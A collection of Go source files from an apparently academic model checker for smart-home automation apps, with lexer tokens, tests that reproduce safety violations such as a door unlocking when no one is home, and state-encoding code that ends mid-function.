	KwPrivate
	KwPublic
	KwProtected
	KwStatic
	KwFinal
	KwNew
	KwInstanceof
	KwImport
	KwAs
	KwTry
	KwCatch
	KwFinally
	KwThrow
	KwVoid

	// Punctuation and operators.
	LParen
	RParen
	LBrack
	RBrack
	LBrace
	RBrace
	Comma
	Colon
	Dot
	SafeDot   // ?.
	SpreadDot // *.
	Question
	Elvis // ?:
	Arrow // ->
	Range // ..

	Assign
	PlusAssign
	MinusAssign
	StarAssign
	SlashAssign

	Plus
	Minus
	Star
	Slash
	Percent
	StarStar // **

	Eq  // ==
	Neq // !=
	Lt
	Gt
	Le
	Ge
	Compare // <=>

	AndAnd
	OrOr
	Not

	Inc // ++
	Dec // --

	At // @ (annotations, skipped by parser)
)

var kindNames = map[Kind]string{
	EOF: "EOF", SEMI: ";", IDENT: "identifier", INT: "int", NUMBER: "number",
	STRING: "string", GSTRING: "gstring",
	KwDef: "def", KwIf: "if", KwElse: "else", KwWhile: "while", KwFor: "for",
	KwIn: "in", KwReturn: "return", KwTrue: "true", KwFalse: "false",
	KwNull: "null", KwSwitch: "switch", KwCase: "case", KwDefault: "default",
	KwBreak: "break", KwContinue: "continue", KwPrivate: "private",
	KwPublic: "public", KwProtected: "protected", KwStatic: "static",
	KwFinal: "final", KwNew: "new", KwInstanceof: "instanceof",
	KwImport: "import", KwAs: "as", KwTry: "try", KwCatch: "catch",
	KwFinally: "finally", KwThrow: "throw", KwVoid: "void",
	LParen: "(", RParen: ")", LBrack: "[", RBrack: "]", LBrace: "{",
	RBrace: "}", Comma: ",", Colon: ":", Dot: ".", SafeDot: "?.",
	SpreadDot: "*.", Question: "?", Elvis: "?:", Arrow: "->", Range: "..",
	Assign: "=", PlusAssign: "+=", MinusAssign: "-=", StarAssign: "*=",
	SlashAssign: "/=", Plus: "+", Minus: "-", Star: "*", Slash: "/",
	Percent: "%", StarStar: "**", Eq: "==", Neq: "!=", Lt: "<", Gt: ">",
	Le: "<=", Ge: ">=", Compare: "<=>", AndAnd: "&&", OrOr: "||", Not: "!",
	Inc: "++", Dec: "--", At: "@",
}

func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("Kind(%d)", int(k))
}

var keywords = map[string]Kind{
	"def": KwDef, "if": KwIf, "else": KwElse, "while": KwWhile, "for": KwFor,
	"in": KwIn, "return": KwReturn, "true": KwTrue, "false": KwFalse,
	"null": KwNull, "switch": KwSwitch, "case": KwCase, "default": KwDefault,
	"break": KwBreak, "continue": KwContinue, "private": KwPrivate,
	"public": KwPublic, "protected": KwProtected, "static": KwStatic,
	"final": KwFinal, "new": KwNew, "instanceof": KwInstanceof,
	"import": KwImport, "as": KwAs, "try": KwTry, "catch": KwCatch,
	"finally": KwFinally, "throw": KwThrow, "void": KwVoid,
}

// StringPart is one segment of a GString: either literal text or the
// source of an interpolated expression (the text between ${ and }).
type StringPart struct {
	Lit  string // literal text, valid when Expr == ""
	Expr string // expression source, valid when non-empty
	Pos  Pos    // position of the part (for sub-parsing diagnostics)
}

// Token is a single lexical token.
type Token struct {
	Kind        Kind
	Pos         Pos
	Text        string       // raw text for IDENT, INT, NUMBER, STRING
	Parts       []StringPart // for GSTRING
	SpaceBefore bool         // whitespace or comment preceded this token
}

func (t Token) String() string {
	switch t.Kind {
	case IDENT, INT, NUMBER:
		return t.Text
	case STRING:
		return fmt.Sprintf("%q", t.Text)
	default:
		return t.Kind.String()
	}
}
