package model

import (
	"strings"
	"testing"

	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/corpus"
	"iotsan/internal/ir"
	"iotsan/internal/smartapp"
)

func translate(t *testing.T, names ...string) map[string]*ir.App {
	t.Helper()
	out := map[string]*ir.App{}
	for _, n := range names {
		app, err := smartapp.Translate(corpus.MustSource(n))
		if err != nil {
			t.Fatalf("translate %s: %v", n, err)
		}
		out[n] = app
	}
	return out
}

// aliceSystem is the paper's running example (§8 "Example"): a smart
// lock on the main door, Alice's presence sensor, and the apps Auto Mode
// Change and Unlock Door.
func aliceSystem() *config.System {
	return &config.System{
		Name:  "alice-home",
		Modes: []string{"Home", "Away", "Night"},
		Mode:  "Home",
		Devices: []config.Device{
			{ID: "alicePresence", Label: "Alice's Presence", Model: "Presence Sensor"},
			{ID: "doorLock", Label: "Door Lock", Model: "Smart Lock", Association: "main door"},
		},
		Apps: []config.AppInstance{
			{App: "Auto Mode Change", Bindings: map[string]config.Binding{
				"people":   {DeviceIDs: []string{"alicePresence"}},
				"awayMode": {Value: "Away"},
				"homeMode": {Value: "Home"},
			}},
			{App: "Unlock Door", Bindings: map[string]config.Binding{
				"lock1": {DeviceIDs: []string{"doorLock"}},
			}},
		},
	}
}

// doorUnlockedWhenAway is the Fig. 7 assertion: the main door must not
// be unlocked while no one is at home.
func doorUnlockedWhenAway() Invariant {
	return Invariant{
		ID:          "lock.main-door-when-away",
		Description: "The main door should be locked when no one is at home",
		Holds: func(v *View) bool {
			if v.AnyoneHome() {
				return true
			}
			for _, d := range v.ByAssociation("main door") {
				if v.AttrEquals(d, "lock", "unlocked") {
					return false
				}
			}
			return true
		},
	}
}

// TestFigure7Violation reproduces the paper's §8 example end to end:
// Alice leaves → Auto Mode Change sets Away → Unlock Door unlocks on the
// mode change → unsafe state.
func TestFigure7Violation(t *testing.T) {
	apps := translate(t, "Auto Mode Change", "Unlock Door")
	m, err := New(aliceSystem(), apps, Options{
		MaxEvents:  2,
		Invariants: []Invariant{doorUnlockedWhenAway()},
	})
	if err != nil {
		t.Fatal(err)
	}
	res := checker.Run(m.System(), checker.Options{MaxDepth: 8})
	if !res.HasViolation("lock.main-door-when-away") {
		t.Fatalf("expected main-door violation; got %v (states=%d)",
			res.PropertyIDs(), res.StatesExplored)
	}

	// The counter-example trail must show the causal chain of Fig. 7.
	var found *checker.Found
	for i := range res.Violations {
		if res.Violations[i].Property == "lock.main-door-when-away" {
			found = &res.Violations[i]
			break
		}
	}
	trail := checker.FormatTrail(*found)
	for _, want := range []string{
		"presence = not present",
		"location.mode = Away",
		"Unlock Door.changedLocationMode",
		"lock = unlocked",
	} {
		if !strings.Contains(trail, want) {
			t.Errorf("trail missing %q:\n%s", want, trail)
		}
	}
}

// TestConflictingCommands reproduces Table 5's conflicting-commands
// example: Brighten Dark Places turns the light on when the door opens
// in the dark, while Let There Be Dark turns it off on the same event.
func TestConflictingCommands(t *testing.T) {
	apps := translate(t, "Brighten Dark Places", "Let There Be Dark!")
	cfg := &config.System{
		Name: "conflict-home",
		Devices: []config.Device{
			{ID: "frontDoor", Label: "Front Door", Model: "Contact Sensor"},
			{ID: "lux", Label: "Hallway Light Sensor", Model: "Illuminance Sensor"},
			{ID: "hallLight", Label: "Hallway Light", Model: "Smart Bulb"},
		},
		Apps: []config.AppInstance{
			{App: "Brighten Dark Places", Bindings: map[string]config.Binding{
				"contact1":   {DeviceIDs: []string{"frontDoor"}},
				"luminance1": {DeviceIDs: []string{"lux"}},
				"switches":   {DeviceIDs: []string{"hallLight"}},
			}},
			{App: "Let There Be Dark!", Bindings: map[string]config.Binding{
				"contact1": {DeviceIDs: []string{"frontDoor"}},
				"switches": {DeviceIDs: []string{"hallLight"}},
			}},
		},
	}
	m, err := New(cfg, apps, Options{MaxEvents: 3, CheckConflicts: true})
	if err != nil {
		t.Fatal(err)
	}
	res := checker.Run(m.System(), checker.Options{MaxDepth: 8})
	if !res.HasViolation(PropConflicting) {
		t.Fatalf("expected conflicting-commands; got %v", res.PropertyIDs())
	}
}

// TestRepeatedCommands: two apps both turning the same light on for the
// same event class.
func TestRepeatedCommands(t *testing.T) {
	apps := translate(t, "Big Turn On", "Make It So")
	apps2 := translate(t, "Auto Mode Change")
	for k, v := range apps2 {
		apps[k] = v
	}
	cfg := &config.System{
		Name:  "repeat-home",
		Modes: []string{"Home", "Away"},
		Devices: []config.Device{
			{ID: "light", Label: "Light", Model: "Smart Switch"},
			{ID: "lock", Label: "Lock", Model: "Smart Lock"},
			{ID: "pres", Label: "Pres", Model: "Presence Sensor"},
		},
		Apps: []config.AppInstance{
			{App: "Auto Mode Change", Bindings: map[string]config.Binding{
				"people":   {DeviceIDs: []string{"pres"}},
				"awayMode": {Value: "Away"},
				"homeMode": {Value: "Home"},
			}},
			{App: "Big Turn On", Bindings: map[string]config.Binding{
				"switches": {DeviceIDs: []string{"light"}},
			}},
			{App: "Make It So", Bindings: map[string]config.Binding{
				"switches": {DeviceIDs: []string{"light"}},
				"locks":    {DeviceIDs: []string{"lock"}},
			}},
		},
	}
	// Mode → Home: Make It So and Big Turn On both turn the light on →
	// repeated. Mode → Away: Make It So turns it off while Big Turn On
	// turns it on → conflicting.
	m, err := New(cfg, apps, Options{MaxEvents: 3, CheckConflicts: true})
	if err != nil {
		t.Fatal(err)
	}
	res := checker.Run(m.System(), checker.Options{MaxDepth: 10})
	if !res.HasViolation(PropRepeated) {
		t.Fatalf("expected repeated-commands; got %v", res.PropertyIDs())
	}
	if !res.HasViolation(PropConflicting) {
		t.Fatalf("expected conflicting-commands; got %v", res.PropertyIDs())
	}
}

// TestDeviceFailureViolation reproduces the Fig. 8b class of violations:
// with failure enumeration on, Make It So's lock command is lost and the
// door stays unlocked in Away mode.
func TestDeviceFailureViolation(t *testing.T) {
	apps := translate(t, "Auto Mode Change", "Make It So")
	cfg := aliceSystem()
	cfg.Apps[1] = config.AppInstance{App: "Make It So", Bindings: map[string]config.Binding{
		"locks": {DeviceIDs: []string{"doorLock"}},
	}}
	inv := Invariant{
		ID:          "lock.main-door-when-away",
		Description: "The main door should be locked when no one is at home",
		Holds: func(v *View) bool {
			if v.AnyoneHome() {
				return true
			}
			for _, d := range v.ByAssociation("main door") {
				if v.AttrEquals(d, "lock", "unlocked") {
					return false
				}
			}
			return true
		},
	}
	// Without failures: Make It So locks the door on Away → no violation.
	m, err := New(cfg, apps, Options{MaxEvents: 3, Invariants: []Invariant{inv}})
	if err != nil {
		t.Fatal(err)
	}
	res := checker.Run(m.System(), checker.Options{MaxDepth: 8})
	if res.HasViolation("lock.main-door-when-away") {
		t.Fatalf("unexpected violation without failures: %v", res.PropertyIDs())
	}

	// With failures: the lock command can be lost → violation; and the
	// app sends no notification → robustness violation.
	m2, err := New(cfg, apps, Options{
		MaxEvents: 3, Failures: true, CheckRobustness: true,
		Invariants: []Invariant{inv},
	})
	if err != nil {
		t.Fatal(err)
	}
	res2 := checker.Run(m2.System(), checker.Options{MaxDepth: 8})
	if !res2.HasViolation("lock.main-door-when-away") {
		t.Errorf("expected failure-induced violation; got %v", res2.PropertyIDs())
	}
	if !res2.HasViolation(PropRobustness) {
		t.Errorf("expected robustness violation; got %v", res2.PropertyIDs())
	}
}

// TestSequentialVsConcurrentFindSameViolations checks the §8 claim the
// design choice rests on: the sequential design discovers the violations
// the concurrent one finds.
func TestSequentialVsConcurrentFindSameViolations(t *testing.T) {
	apps := translate(t, "Auto Mode Change", "Unlock Door")
	for _, design := range []Design{Sequential, Concurrent} {
		m, err := New(aliceSystem(), apps, Options{
			Design: design, MaxEvents: 2,
			Invariants: []Invariant{doorUnlockedWhenAway()},
		})
		if err != nil {
			t.Fatal(err)
		}
		res := checker.Run(m.System(), checker.Options{MaxDepth: 32})
		if !res.HasViolation("lock.main-door-when-away") {
			t.Errorf("%v design missed the violation: %v", design, res.PropertyIDs())
		}
	}
}

// TestConcurrentExploresMoreStates: the concurrent design explores
// (many) more states for the same system and event budget (Table 7b's
// cause).
func TestConcurrentExploresMoreStates(t *testing.T) {
	apps := translate(t, "Auto Mode Change", "Unlock Door", "Big Turn On")
	cfg := aliceSystem()
	cfg.Devices = append(cfg.Devices, config.Device{ID: "sw1", Label: "Switch 1", Model: "Smart Switch"})
	cfg.Apps = append(cfg.Apps, config.AppInstance{App: "Big Turn On",
		Bindings: map[string]config.Binding{"switches": {DeviceIDs: []string{"sw1"}}}})

	states := map[Design]int{}
	for _, design := range []Design{Sequential, Concurrent} {
		m, err := New(cfg, apps, Options{Design: design, MaxEvents: 3})
		if err != nil {
			t.Fatal(err)
		}
		res := checker.Run(m.System(), checker.Options{MaxDepth: 64, MaxStates: 2_000_000})
		states[design] = res.StatesExplored
	}
	if states[Concurrent] <= states[Sequential] {
		t.Errorf("concurrent (%d states) should explore more than sequential (%d)",
			states[Concurrent], states[Sequential])
	}
}

// TestTimerFires: Light Follows Me's runIn callback turns the light off
// after motion stops.
func TestTimerFires(t *testing.T) {
	apps := translate(t, "Light Follows Me")
	cfg := &config.System{
		Name: "timer-home",
		Devices: []config.Device{
			{ID: "motion1", Label: "Motion", Model: "Motion Sensor"},
			{ID: "light", Label: "Light", Model: "Smart Switch"},
		},
		Apps: []config.AppInstance{
			{App: "Light Follows Me", Bindings: map[string]config.Binding{
				"motion1":  {DeviceIDs: []string{"motion1"}},
				"minutes1": {Value: 10},
				"switches": {DeviceIDs: []string{"light"}},
			}},
		},
	}
	// Invariant: light is never on while motion inactive *after* the
	// timer has fired — instead we just check the timer path executes:
	// some reachable state has the light off after it was on.
	sawOffAfterOn := false
	inv := Invariant{
		ID:          "probe.light-cycles",
		Description: "probe",
		Holds: func(v *View) bool {
			d := v.ByCapability("switch")[0]
			if v.AttrEquals(d, "switch", "off") {
				if mo := v.ByCapability("motionSensor")[0]; v.AttrEquals(mo, "motion", "inactive") {
					sawOffAfterOn = true
				}
			}
			return true
		},
	}
	m, err := New(cfg, apps, Options{MaxEvents: 3, Invariants: []Invariant{inv}})
	if err != nil {
		t.Fatal(err)
	}
	checker.Run(m.System(), checker.Options{MaxDepth: 16})
	if !sawOffAfterOn {
		t.Error("timer-driven switch-off path never explored")
	}
}

// TestStateEncodeDeterminism: the state vector encoding must be stable
// across Clone (hashing correctness).
func TestStateEncodeDeterminism(t *testing.T) {
	apps := translate(t, "Auto Mode Change", "Unlock Door")
	m, err := New(aliceSystem(), apps, Options{MaxEvents: 2})
	if err != nil {
		t.Fatal(err)
	}
	s := m.Initial()
	s.Apps[0].KV = map[string]ir.Value{"b": ir.IntV(2), "a": ir.StrV("x"), "c": ir.BoolV(true)}
	e1 := s.Encode(nil)
	e2 := s.Clone().Encode(nil)
	if string(e1) != string(e2) {
		t.Error("encodings differ between state and clone")
	}
}

// TestEventSpacePruning: RelevantAttrs removes unobserved sensor events.
func TestEventSpacePruning(t *testing.T) {
	apps := translate(t, "Unlock Door")
	cfg := &config.System{
		Name: "prune-home",
		Devices: []config.Device{
			{ID: "lock1", Label: "Lock", Model: "Smart Lock"},
			{ID: "temp", Label: "Temp", Model: "Temperature Sensor"},
		},
		Apps: []config.AppInstance{
			{App: "Unlock Door", Bindings: map[string]config.Binding{
				"lock1": {DeviceIDs: []string{"lock1"}},
			}},
		},
	}
	all, err := New(cfg, apps, Options{MaxEvents: 1})
	if err != nil {
		t.Fatal(err)
	}
	pruned, err := New(cfg, apps, Options{MaxEvents: 1,
		RelevantAttrs: map[string]bool{"lock": true}})
	if err != nil {
		t.Fatal(err)
	}
	if len(pruned.ExternalEvents()) >= len(all.ExternalEvents()) {
		t.Errorf("pruning did not shrink event space: %d vs %d",
			len(pruned.ExternalEvents()), len(all.ExternalEvents()))
	}
}
