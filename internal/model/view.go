package model

import (
	"iotsan/internal/ir"
)

// View is a read-only window over one state, used by property monitors
// (the props package builds Invariants whose atoms query a View).
type View struct {
	M *Model
	S *State
}

// Mode returns the current location mode.
func (v *View) Mode() string { return v.M.Cfg.Modes[v.S.Mode] }

// Attr reads an attribute of a device by index.
func (v *View) Attr(dev int, attr string) (ir.Value, bool) {
	return v.M.AttrValue(v.S, dev, attr)
}

// ByAssociation returns the devices carrying the given association role
// (§7 device association info).
func (v *View) ByAssociation(assoc string) []*DevInst {
	var out []*DevInst
	for _, d := range v.M.Devices {
		if d.Assoc == assoc {
			out = append(out, d)
		}
	}
	return out
}

// ByCapability returns the devices exposing a capability.
func (v *View) ByCapability(capName string) []*DevInst {
	var out []*DevInst
	for _, d := range v.M.Devices {
		if d.Model.HasCapability(capName) {
			out = append(out, d)
		}
	}
	return out
}

// AttrEquals reports whether the device's attribute currently holds the
// given string value.
func (v *View) AttrEquals(d *DevInst, attr, value string) bool {
	val, ok := v.Attr(d.Idx, attr)
	return ok && val.Kind == ir.VStr && val.S == value
}

// AttrNumber returns a numeric attribute value.
func (v *View) AttrNumber(d *DevInst, attr string) (int64, bool) {
	val, ok := v.Attr(d.Idx, attr)
	if !ok || !val.IsNumeric() {
		return 0, false
	}
	return val.AsInt(), true
}

// AnyoneHome reports whether any presence sensor reports "present".
// Without presence sensors the home is conservatively considered
// occupied (presence-conditioned properties never fire).
func (v *View) AnyoneHome() bool {
	devs := v.ByCapability("presenceSensor")
	if len(devs) == 0 {
		return true
	}
	for _, d := range devs {
		if v.AttrEquals(d, "presence", "present") {
			return true
		}
	}
	return false
}

// AnyMotion reports whether any motion sensor is active.
func (v *View) AnyMotion() bool {
	for _, d := range v.ByCapability("motionSensor") {
		if v.AttrEquals(d, "motion", "active") {
			return true
		}
	}
	return false
}

// SmokeDetected reports whether any smoke detector reports smoke.
func (v *View) SmokeDetected() bool {
	for _, d := range v.ByCapability("smokeDetector") {
		if v.AttrEquals(d, "smoke", "detected") {
			return true
		}
	}
	return false
}

// CODetected reports whether any CO detector reports carbon monoxide.
func (v *View) CODetected() bool {
	for _, d := range v.ByCapability("carbonMonoxideDetector") {
		if v.AttrEquals(d, "carbonMonoxide", "detected") {
			return true
		}
	}
	return false
}

// LeakDetected reports whether any water sensor is wet.
func (v *View) LeakDetected() bool {
	for _, d := range v.ByCapability("waterSensor") {
		if v.AttrEquals(d, "water", "wet") {
			return true
		}
	}
	return false
}
