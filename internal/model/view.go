package model

import (
	"iotsan/internal/ir"
)

// ViewMemoSlots is the size of the View's per-state atom memo table
// (see View.Memo). The props package assigns one slot per shared atom
// name; the constant leaves headroom for catalog growth.
const ViewMemoSlots = 48

// View is a read-only window over one state, used by property monitors
// (the props package builds Invariants whose atoms query a View).
type View struct {
	M *Model
	S *State

	// memo caches shared atom results for this state: the invariant
	// catalog re-evaluates the same named predicates (anyone_home,
	// mode_away, ...) across dozens of properties, and Inspect builds
	// one View per state, so each memoized atom runs its device scan
	// once. 0 = unevaluated, 1 = false, 2 = true.
	memo [ViewMemoSlots]uint8
}

// Memo returns f(v), computing it at most once per View per slot. Slots
// are assigned by the atom catalog (props); predicates must be pure
// functions of the underlying state.
func (v *View) Memo(slot int, f func(*View) bool) bool {
	if m := v.memo[slot]; m != 0 {
		return m == 2
	}
	r := f(v)
	if r {
		v.memo[slot] = 2
	} else {
		v.memo[slot] = 1
	}
	return r
}

// Mode returns the current location mode.
func (v *View) Mode() string { return v.M.Cfg.Modes[v.S.Mode] }

// Attr reads an attribute of a device by index.
func (v *View) Attr(dev int, attr string) (ir.Value, bool) {
	return v.M.AttrValue(v.S, dev, attr)
}

// ByAssociation returns the devices carrying the given association role
// (§7 device association info). The returned slice is the model's
// precomputed index — callers must not mutate it.
func (v *View) ByAssociation(assoc string) []*DevInst {
	return v.M.byAssoc[assoc]
}

// ByCapability returns the devices exposing a capability. The returned
// slice is the model's precomputed index — callers must not mutate it.
func (v *View) ByCapability(capName string) []*DevInst {
	return v.M.byCap[capName]
}

// AttrEquals reports whether the device's attribute currently holds the
// given string value. It compares raw encoded values without building
// an ir.Value (invariant atoms call this on every reached state).
func (v *View) AttrEquals(d *DevInst, attr, value string) bool {
	i := d.AttrIndex(attr)
	if i < 0 {
		return false
	}
	a := &d.Attrs[i]
	if a.Numeric {
		return false
	}
	raw := int(v.S.Devices[d.Idx].Attrs[i])
	return raw < len(a.Values) && a.Values[raw] == value
}

// AttrNumber returns a numeric attribute value.
func (v *View) AttrNumber(d *DevInst, attr string) (int64, bool) {
	i := d.AttrIndex(attr)
	if i < 0 || !d.Attrs[i].Numeric {
		return 0, false
	}
	return int64(v.S.Devices[d.Idx].Attrs[i]), true
}

// AnyoneHome reports whether any presence sensor reports "present".
// Without presence sensors the home is conservatively considered
// occupied (presence-conditioned properties never fire).
func (v *View) AnyoneHome() bool {
	devs := v.ByCapability("presenceSensor")
	if len(devs) == 0 {
		return true
	}
	for _, d := range devs {
		if v.AttrEquals(d, "presence", "present") {
			return true
		}
	}
	return false
}

// AnyMotion reports whether any motion sensor is active.
func (v *View) AnyMotion() bool {
	for _, d := range v.ByCapability("motionSensor") {
		if v.AttrEquals(d, "motion", "active") {
			return true
		}
	}
	return false
}

// SmokeDetected reports whether any smoke detector reports smoke.
func (v *View) SmokeDetected() bool {
	for _, d := range v.ByCapability("smokeDetector") {
		if v.AttrEquals(d, "smoke", "detected") {
			return true
		}
	}
	return false
}

// CODetected reports whether any CO detector reports carbon monoxide.
func (v *View) CODetected() bool {
	for _, d := range v.ByCapability("carbonMonoxideDetector") {
		if v.AttrEquals(d, "carbonMonoxide", "detected") {
			return true
		}
	}
	return false
}

// LeakDetected reports whether any water sensor is wet.
func (v *View) LeakDetected() bool {
	for _, d := range v.ByCapability("waterSensor") {
		if v.AttrEquals(d, "water", "wet") {
			return true
		}
	}
	return false
}
