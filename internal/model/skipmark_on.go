//go:build iotsan_skipmark

package model

// Armed by the iotsan_skipmark build tag: enqueue skips markQueue, so
// queue-block hashes go stale and the incremental digest diverges from
// the from-scratch digest. The tag-gated negative test at the repo
// root asserts the walk oracle catches the divergence — the runtime
// counterpart of the dirtymark analyzer's static check.
const skipQueueMark = true
