package model

import (
	"sort"

	"iotsan/internal/ir"
)

// DevState is the dynamic state of one device instance. Attrs is a
// subslice of the state's flat attribute backing array, so cloning all
// device attributes is one allocation and one copy.
type DevState struct {
	Online bool
	Attrs  []int16 // enum value index or numeric value, per attribute
}

// Timer is a pending scheduled callback of an app.
type Timer struct {
	Handler string
	Delay   int64
}

// AppState is the dynamic state of one app instance. Apps whose state
// keys are statically known (eval.StateLayout) store their persistent
// state in Slots — a subslice of the state's flat slot backing — and
// keep KV nil; dynamic apps fall back to the KV map.
type AppState struct {
	KV           map[string]ir.Value // the persistent `state` map (dynamic apps)
	Slots        []ir.Value          // slot-based persistent state (static apps)
	Unsubscribed bool
	Timers       []Timer
}

// Pending is one queued handler invocation (concurrent design): the
// event payload destined for a specific resolved subscription.
type Pending struct {
	SubIdx int   // index into Model.subs
	Source int   // device index or pseudo-source
	Val    int16 // encoded event value (device/mode events)
	Raw    string
}

// CmdRec records an actuator command within the current cascade for the
// conflicting/repeated command properties (Algorithm 1 line 16).
type CmdRec struct {
	Dev   int
	Cmd   string
	Arg   int16
	App   int
	Attr  string
	Value string // target attribute value ("" for argument commands)
}

// State is the full system state. It is a value in the model-checking
// sense: cloned on branch, encoded for hashing. Once a state has been
// returned from Initial or inside a Transition it is never mutated
// again — executors write only to the clone of the state they are
// deriving — so states may be encoded and expanded concurrently.
type State struct {
	Time       int64
	Mode       uint8
	EventsUsed int
	Devices    []DevState
	Apps       []AppState
	// attrs/slots are the flat backing arrays the per-device Attrs and
	// per-app Slots subslices point into; Clone copies each with a
	// single allocation.
	attrs []int16
	slots []ir.Value
	// Queue holds pending handler invocations (concurrent design only;
	// always empty between transitions in the sequential design).
	Queue []Pending
	// Cmds is the per-cascade command log (concurrent design carries it
	// across transitions until the next external injection).
	Cmds []CmdRec
}

// Initial builds the initial state from the configuration: devices at
// their schema defaults, apps with empty persistent state, all online.
func (m *Model) Initial() *State {
	s := &State{
		Devices: make([]DevState, len(m.Devices)),
		Apps:    make([]AppState, len(m.Apps)),
	}
	mi := m.ModeIndex(m.Cfg.Mode)
	if mi < 0 {
		mi = 0
	}
	s.Mode = uint8(mi)

	total := 0
	for _, d := range m.Devices {
		total += len(d.Attrs)
	}
	s.attrs = make([]int16, total)
	off := 0
	for i, d := range m.Devices {
		n := len(d.Attrs)
		ds := DevState{Online: true, Attrs: s.attrs[off : off+n : off+n]}
		off += n
		m.initialAttrs(i, ds.Attrs)
		s.Devices[i] = ds
	}

	if m.slotTotal > 0 {
		s.slots = make([]ir.Value, m.slotTotal)
		off := 0
		for i, app := range m.Apps {
			n := len(app.StateKeys)
			if n > 0 {
				s.Apps[i].Slots = s.slots[off : off+n : off+n]
				off += n
			}
		}
	}
	return s
}

// initialAttrs writes device i's initial attribute values (schema
// defaults plus configured overrides) into dst, which must have
// len(m.Devices[i].Attrs) entries. Shared by Initial and the symmetry
// layer's orbit signatures (two devices with differing initial state
// are never interchangeable).
func (m *Model) initialAttrs(i int, dst []int16) {
	d := m.Devices[i]
	for j, a := range d.Attrs {
		dst[j] = int16(a.Default)
	}
	for attr, val := range m.Cfg.Devices[i].Initial {
		j := d.AttrIndex(attr)
		if j < 0 {
			continue
		}
		a := d.Attrs[j]
		if a.Numeric {
			if n, err := parseInt(val); err == nil {
				dst[j] = int16(n)
			}
		} else if k := indexOf(a.Values, val); k >= 0 {
			dst[j] = int16(k)
		}
	}
}

func parseInt(s string) (int64, error) {
	var n int64
	var neg bool
	for i, c := range s {
		if i == 0 && c == '-' {
			neg = true
			continue
		}
		if c < '0' || c > '9' {
			return 0, errBadInt
		}
		n = n*10 + int64(c-'0')
	}
	if neg {
		n = -n
	}
	return n, nil
}

var errBadInt = errInvalid("invalid integer")

type errInvalid string

func (e errInvalid) Error() string { return string(e) }

// Clone deep-copies the state. The flat attribute and slot backing
// arrays are each copied with one allocation; per-device and per-app
// headers are re-sliced onto them.
func (s *State) Clone() *State {
	n := &State{
		Time: s.Time, Mode: s.Mode, EventsUsed: s.EventsUsed,
		Devices: make([]DevState, len(s.Devices)),
		Apps:    make([]AppState, len(s.Apps)),
	}
	if len(s.attrs) > 0 {
		n.attrs = make([]int16, len(s.attrs))
		copy(n.attrs, s.attrs)
	}
	off := 0
	for i, d := range s.Devices {
		k := len(d.Attrs)
		n.Devices[i] = DevState{Online: d.Online, Attrs: n.attrs[off : off+k : off+k]}
		off += k
	}
	if len(s.slots) > 0 {
		n.slots = make([]ir.Value, len(s.slots))
		for i, v := range s.slots {
			n.slots[i] = cloneValue(v)
		}
	}
	soff := 0
	for i, a := range s.Apps {
		na := AppState{Unsubscribed: a.Unsubscribed}
		if k := len(a.Slots); k > 0 {
			na.Slots = n.slots[soff : soff+k : soff+k]
			soff += k
		}
		if a.KV != nil {
			na.KV = make(map[string]ir.Value, len(a.KV))
			for k, v := range a.KV {
				na.KV[k] = cloneValue(v)
			}
		}
		if len(a.Timers) > 0 {
			na.Timers = append([]Timer(nil), a.Timers...)
		}
		n.Apps[i] = na
	}
	if len(s.Queue) > 0 {
		n.Queue = append([]Pending(nil), s.Queue...)
	}
	if len(s.Cmds) > 0 {
		n.Cmds = append([]CmdRec(nil), s.Cmds...)
	}
	return n
}

func cloneValue(v ir.Value) ir.Value {
	switch v.Kind {
	case ir.VList, ir.VDevices:
		l := make([]ir.Value, len(v.L))
		for i, e := range v.L {
			l[i] = cloneValue(e)
		}
		v.L = l
	case ir.VMap:
		m := make(map[string]ir.Value, len(v.M))
		for k, e := range v.M {
			m[k] = cloneValue(e)
		}
		v.M = m
	}
	return v
}

// Encode appends a deterministic binary encoding of the state (the
// "state vector" Spin would hash) to buf. This is the raw path of the
// two-path encoder: device blocks in device-index order, queue and
// command log in execution order. The canonical path (symmetry
// reduction) routes through the same encode with a canonView that
// permutes interchangeable-device blocks and normalises the dependent
// queue/command-log entries; see Model.CanonicalEncode in symmetry.go.
func (s *State) Encode(buf []byte) []byte {
	return s.encode(buf, nil)
}

// canonView describes one canonicalization of a state for the encoder:
// the orbit permutation over device blocks plus the renamed and
// normalised queue/command-log views. A nil canonView selects the raw
// encoding. The view references a state-specific renaming, so it is
// consumed by exactly one encode call.
type canonView struct {
	order  []int32   // encode position → device index (blocks permuted within orbits)
	devMap []int32   // device index → canonical index (inverse of order)
	queue  []Pending // renamed queue, orbit-sourced entries normalised
	cmds   []CmdRec  // renamed command log, orbit-target entries normalised
}

// encode is the shared two-path state-vector encoder. The raw path
// (cv == nil) is byte-for-byte the historical encoding; the canonical
// path reads device blocks through cv.order, renames device references
// inside app slot/KV values through cv.devMap, and substitutes the
// normalised queue and command log.
func (s *State) encode(buf []byte, cv *canonView) []byte {
	var devMap []int32
	queue, cmds := s.Queue, s.Cmds
	if cv != nil {
		devMap = cv.devMap
		queue, cmds = cv.queue, cv.cmds
	}
	buf = append(buf, s.Mode, byte(s.EventsUsed))
	for p := range s.Devices {
		d := &s.Devices[p]
		if cv != nil {
			d = &s.Devices[cv.order[p]]
		}
		if d.Online {
			buf = append(buf, 1)
		} else {
			buf = append(buf, 0)
		}
		for _, a := range d.Attrs {
			buf = append(buf, byte(a), byte(a>>8))
		}
	}
	for i := range s.Apps {
		a := &s.Apps[i]
		if a.Unsubscribed {
			buf = append(buf, 1)
		} else {
			buf = append(buf, 0)
		}
		buf = append(buf, byte(len(a.Timers)))
		for _, t := range a.Timers {
			buf = append(buf, []byte(t.Handler)...)
			buf = append(buf, 0)
		}
		// Slotted state encodes in fixed layout order — no key strings,
		// no sorting. Dynamic apps keep the sorted-key KV encoding.
		for _, v := range a.Slots {
			buf = v.EncodeMapped(buf, devMap)
		}
		if len(a.KV) > 0 {
			keys := make([]string, 0, len(a.KV))
			for k := range a.KV {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, k := range keys {
				buf = append(buf, []byte(k)...)
				buf = append(buf, 0)
				buf = a.KV[k].EncodeMapped(buf, devMap)
			}
		}
		buf = append(buf, 0xFE)
	}
	for _, p := range queue {
		buf = append(buf, byte(p.SubIdx), byte(p.Source), byte(p.Val), byte(p.Val>>8))
		buf = append(buf, []byte(p.Raw)...)
		buf = append(buf, 0)
	}
	buf = append(buf, 0xFD)
	for _, c := range cmds {
		buf = append(buf, byte(c.Dev), byte(c.App))
		buf = append(buf, []byte(c.Cmd)...)
